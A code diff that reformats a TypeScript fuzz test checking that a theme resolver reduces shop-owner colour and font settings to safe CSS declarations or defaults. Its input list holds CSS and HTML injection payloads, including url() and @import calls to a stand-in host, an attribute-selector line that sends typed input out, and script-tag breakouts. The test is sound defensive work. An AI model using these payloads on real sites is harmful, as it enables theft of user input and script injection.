@@ -14,31 +14,86 @@ const DEFAULT = cssText(cssVariables(defaults))
 
 /** Ways out of a declaration, to another host, or to what a shopper types. */
 const ESCAPES = [
-  'url(//evil.example.test/a)', '@import "//evil.example.test"', '}', '};body{display:none}', ';color:red', '</style><script>alert(1)</script>', '<!--', '-->', '/*', '*/', '\\7d ', '\\000075rl(//x)', '\n', '\u0000', '\u2028',
-  'expression(alert(1))', 'image-set("//evil.example.test" 1x)', 'src("//evil.example.test")', 'var(--x)', 'env(x)', 'attr(value)', 'calc(1px)', '!important', '-moz-binding:url(x)', 'behavior:url(x)', '"', "'", '`', '{', '(', ')',
-  "input[value^='a']{background:url(//evil.example.test/?a)}", '@font-face{font-family:x;src:url(//evil.example.test)}', ':root{--color-main:url(//evil.example.test)}', 'javascript:alert(1)', 'inherit', 'initial', 'currentColor', 'transparent', 'red', 'rgb(1,2,3)', '#fff', '#ffff', '#12345g', '#FFFFFFFF',
+  'url(//evil.example.test/a)',
+  '@import "//evil.example.test"',
+  '}',
+  '};body{display:none}',
+  ';color:red',
+  '</style><script>alert(1)</script>',
+  '<!--',
+  '-->',
+  '/*',
+  '*/',
+  '\\7d ',
+  '\\000075rl(//x)',
+  '\n',
+  '\u0000',
+  '\u2028',
+  'expression(alert(1))',
+  'image-set("//evil.example.test" 1x)',
+  'src("//evil.example.test")',
+  'var(--x)',
+  'env(x)',
+  'attr(value)',
+  'calc(1px)',
+  '!important',
+  '-moz-binding:url(x)',
+  'behavior:url(x)',
+  '"',
+  "'",
+  '`',
+  '{',
+  '(',
+  ')',
+  "input[value^='a']{background:url(//evil.example.test/?a)}",
+  '@font-face{font-family:x;src:url(//evil.example.test)}',
+  ':root{--color-main:url(//evil.example.test)}',
+  'javascript:alert(1)',
+  'inherit',
+  'initial',
+  'currentColor',
+  'transparent',
+  'red',
+  'rgb(1,2,3)',
+  '#fff',
+  '#ffff',
+  '#12345g',
+  '#FFFFFFFF',
 ]
 const hex = fc.integer({ min: 0, max: 0xffffff }).map((number) => `#${number.toString(16).padStart(6, '0')}`)
 const shouted = hex.map((colour) => colour.toUpperCase())
 const escape = fc.constantFrom(...ESCAPES)
 const written = fc.oneof(
-  hex, shouted, escape, fc.string({ unit: 'binary', maxLength: 30 }),
-  fc.tuple(fc.oneof(hex, fc.constantFrom('Inter', 'be-vietnam-pro', 'soft', 'none')), escape).map((parts) => parts.join('')),
+  hex,
+  shouted,
+  escape,
+  fc.string({ unit: 'binary', maxLength: 30 }),
+  fc
+    .tuple(fc.oneof(hex, fc.constantFrom('Inter', 'be-vietnam-pro', 'soft', 'none')), escape)
+    .map((parts) => parts.join('')),
   fc.tuple(escape, hex, escape).map((parts) => parts.join('')),
-  fc.constantFrom<unknown>('Inter', '"Nunito", serif', 'Comic Sans MS', 'sharp', 'deep', 5, null, true, ['#ffffff'], { toString: 1 }),
+  fc.constantFrom<unknown>('Inter', '"Nunito", serif', 'Comic Sans MS', 'sharp', 'deep', 5, null, true, ['#ffffff'], {
+    toString: 1,
+  }),
 )
 
 test('a fuzzed colour or font is the exact one, or the default; the style text holds declarations alone', () => {
   let exact = 0
-  fc.assert(fc.property(fc.constantFrom(...styled), written, (name, given) => {
-    const { theme } = resolveTheme({ [name]: given })
-    const taken = meant(name, given) ?? defaults[name]
-    if (theme[name] !== taken) throw new Error(`${name} is ${JSON.stringify(theme[name])}`)
-    const text = cssText(cssVariables(theme))
-    if (!DECLARATIONS.test(text) || LEAVES.test(text)) throw new Error(text)
-    if (text !== (taken === defaults[name] ? DEFAULT : cssText(cssVariables({ ...defaults, [name]: taken } as Theme)))) throw new Error(`${name} changes more than its own`)
-    if (taken !== defaults[name]) exact += 1
-  }), { numRuns: RUNS })
+  fc.assert(
+    fc.property(fc.constantFrom(...styled), written, (name, given) => {
+      const { theme } = resolveTheme({ [name]: given })
+      const taken = meant(name, given) ?? defaults[name]
+      if (theme[name] !== taken) throw new Error(`${name} is ${JSON.stringify(theme[name])}`)
+      const text = cssText(cssVariables(theme))
+      if (!DECLARATIONS.test(text) || LEAVES.test(text)) throw new Error(text)
+      if (
+        text !== (taken === defaults[name] ? DEFAULT : cssText(cssVariables({ ...defaults, [name]: taken } as Theme)))
+      )
+        throw new Error(`${name} changes more than its own`)
+      if (taken !== defaults[name]) exact += 1
+    }),
+    { numRuns: RUNS },
+  )
   process.stdout.write(`styles: ${RUNS} fuzzed values, ${exact} taken as written, the others replaced by the default\n`)
   expect(exact).toBeGreaterThan(RUNS / 20)
 }, 120_000)
@@ -56,7 +111,10 @@ function meant(name: (typeof styled)[number], given: unknown): unknown {
   // oxlint-disable-next-line no-control-regex -- controls are nothing an owner wrote
   const text = given.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g, '').trim()
   if (name === 'font_family') return fontId(text) ?? undefined
-  if (name === 'corner_style' || name === 'shadow_style') return ['sharp', 'soft', 'round', 'none', 'deep'].find((word) => word === text.toLowerCase() && FIELDS[name].schema.safeParse(word).success)
+  if (name === 'corner_style' || name === 'shadow_style')
+    return ['sharp', 'soft', 'round', 'none', 'deep'].find(
+      (word) => word === text.toLowerCase() && FIELDS[name].schema.safeParse(word).success,
+    )
   return /^#[0-9a-f]{6}$/i.test(text) ? text.toLowerCase() : undefined
 }
 
